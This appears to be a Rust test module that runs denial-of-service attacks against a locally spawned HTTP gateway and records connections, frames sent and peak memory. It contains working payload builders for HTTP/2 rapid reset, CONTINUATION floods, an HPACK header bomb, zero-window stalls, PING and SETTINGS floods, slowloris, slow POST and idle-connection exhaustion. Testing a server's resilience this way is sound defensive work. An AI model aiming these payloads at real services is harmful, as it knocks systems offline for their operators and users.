//! The attacks: each a way to make the gateway work, wait or remember for next to nothing.

use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWriteExt},
    task::JoinHandle,
    time::{sleep, timeout_at},
};

use crate::gateway::{Gateway, Process};

const FROM: [u8; 4] = [127, 0, 0, 3];
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) connections: u32,
    pub(super) http2: bool,
    /// What begins a connection.
    pub(super) start: fn() -> Vec<u8>,
    /// What is sent again and again; the argument counts from 0.
    pub(super) then: fn(u32) -> Vec<u8>,
    /// How often.
    pub(super) every: Duration,
    /// After what a connection that the gateway ended comes again.
    pub(super) again: Duration,
}

/// What an attack came to.
pub(crate) struct Sums {
    pub(crate) opened: u64,
    pub(crate) sent: u64,
    /// The most memory of the gateway, in MiB.
    pub(crate) memory: f64,
}

const AT_ONCE: Duration = Duration::ZERO;
const SOON: Duration = Duration::from_millis(100);
const SECOND: Duration = Duration::from_secs(1);

pub(crate) static ATTACKS: [Attack; 10] = [
    Attack {
        name: "rapid reset: HEADERS, RST_STREAM",
        connections: 8,
        http2: true,
        start: settings,
        then: |n| [request(2 * n + 1), frame(3, 0, 2 * n + 1, &[0, 0, 0, 8])].concat(),
        every: AT_ONCE,
        again: SOON,
    },
    Attack {
        name: "CONTINUATION without end",
        connections: 8,
        http2: true,
        start: || {
            [
                settings(),
                frame(1, 0, 1, &[0, 1, b'x', 0x7f, 0xff, 0xff, 0x7f]),
            ]
            .concat()
        },
        then: |_| frame(9, 0, 1, b"xxxxxxxx"),
        every: AT_ONCE,
        again: SOON,
    },
    Attack {
        name: "handshakes, each ended by a wrong preface",
        connections: 100,
        http2: true,
        start: || vec![0; PREFACE.len()],
        then: |_| Vec::new(),
        every: SECOND,
        again: SOON,
    },
    Attack {
        name: "header bomb, window 0, dripped WINDOW_UPDATE",
        connections: 100,
        http2: true,
        start: bomb,
        then: |_| frame(8, 0, 1, &[0, 0, 0, 1]),
        every: Duration::from_millis(100),
        again: SECOND,
    },
    Attack {
        name: "answers never read: 90 streams, window 0",
        connections: 100,
        http2: true,
        start: || {
            let requests = (0..90).flat_map(|n| request(2 * n + 1));
            settings_with(&[0, 4, 0, 0, 0, 0])
                .into_iter()
                .chain(requests)
                .collect()
        },
        then: |_| frame(8, 0, 1, &[0, 0, 0, 1]),
        every: SECOND,
        again: SOON,
    },
    Attack {
        name: "PING",
        connections: 8,
        http2: true,
        start: settings,
        then: |_| frame(6, 0, 0, b"12345678"),
        every: AT_ONCE,
        again: SOON,
    },
    Attack {
        name: "SETTINGS",
        connections: 8,
        http2: true,
        start: settings,
        then: |_| frame(4, 0, 0, &[0, 4, 0, 0, 255, 255]),
        every: AT_ONCE,
        again: SOON,
    },
    Attack {
        name: "slowloris: a head byte by byte",
        connections: 500,
        http2: false,
        start: || b"GET /slow HTTP/1.1\r\nHost: localhost\r\nX: ".to_vec(),
        then: |_| b"x".to_vec(),
        every: SECOND,
        again: SOON,
    },
    Attack {
        name: "slow POST: a body byte by byte",
        connections: 500,
        http2: false,
        start: || {
            b"POST /slow HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n".to_vec()
        },
        then: |_| b"x".to_vec(),
        every: SECOND,
        again: SOON,
    },
    Attack {
        name: "idle connections",
        connections: 900,
        http2: false,
        start: Vec::new,
        then: |_| Vec::new(),
        every: SECOND,
        again: SOON,
    },
];

/// Attacks for so long, in the background.
pub(crate) fn start(
    attack: &'static Attack,
    gateway: &Gateway,
    length: Duration,
) -> JoinHandle<Sums> {
    let gateway = Arc::clone(&gateway.process);
    tokio::spawn(async move {
        let (opened, sent) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let ended = Arc::new(AtomicBool::new(false));
        let until = Instant::now() + length;
        let mut tasks = Vec::new();
        for number in 0..attack.connections {
            let (gateway, opened, sent) =
                (Arc::clone(&gateway), Arc::clone(&opened), Arc::clone(&sent));
            let ended = Arc::clone(&ended);
            tasks.push(tokio::spawn(async move {
                // Spread, so that the handshakes of one moment are not what is measured.
                sleep(
                    attack
                        .again
                        .mul_f64(f64::from(number) / f64::from(attack.connections)),
                )
                .await;
                while !ended.load(Ordering::Relaxed) {
                    let one = connection(attack, &gateway, (&opened, &sent));
                    if timeout_at(until.into(), one).await.is_err() {
                        return;
                    }
                    sleep(attack.again).await;
                }
            }));
        }
        let mut memory: f64 = 0.0;
        while Instant::now() < until {
            memory = memory.max(gateway.memory());
            sleep(Duration::from_millis(50)).await;
        }
        ended.store(true, Ordering::Relaxed);
        for task in tasks {
            let _ = task.await;
        }
        Sums {
            opened: opened.load(Ordering::Relaxed),
            sent: sent.load(Ordering::Relaxed),
            memory,
        }
    })
}

/// One connection until the gateway ends it.
async fn connection(attack: &Attack, gateway: &Process, sums: (&AtomicU64, &AtomicU64)) {
    let Ok(stream) = gateway.connect(FROM, attack.http2).await else {
        return;
    };
    sums.0.fetch_add(1, Ordering::Relaxed);
    let (reading, mut writing) = tokio::io::split(stream);
    let write = async {
        if writing.write_all(&(attack.start)()).await.is_err() {
            return;
        }
        for n in 0.. {
            let bytes = (attack.then)(n);
            if writing.write_all(&bytes).await.is_err() || writing.flush().await.is_err() {
                return;
            }
            sums.1.fetch_add(1, Ordering::Relaxed);
            if !attack.every.is_zero() {
                sleep(attack.every).await;
            }
        }
    };
    tokio::select! {
        () = write => {}
        () = ended(reading) => {}
    }
}

/// Reads and throws away until the end.
async fn ended(mut reading: impl AsyncRead + Unpin) {
    let mut buffer = vec![0; 16 << 10];
    while reading.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
}

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length.get(1..).unwrap().to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

pub(super) fn settings() -> Vec<u8> {
    settings_with(&[])
}

fn settings_with(values: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, values)].concat()
}

/// GET / for localhost, which ends its stream.
fn request(stream: u32) -> Vec<u8> {
    let block = [&[0x82, 0x87, 0x84, 0x01, 9][..], b"localhost"].concat();
    frame(1, 5, stream, &block)
}

/// A long field into the table, then references to it of one byte each (RFC 7541 §6.1), and no window for the answer.
pub(super) fn bomb() -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x84, 0x01, 9];
    block.extend(b"localhost");
    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend([b'v'; 4000]);
    block.extend([0xbe; 12_000]);
    [settings_with(&[0, 4, 0, 0, 0, 0]), frame(1, 5, 1, &block)].concat()
}
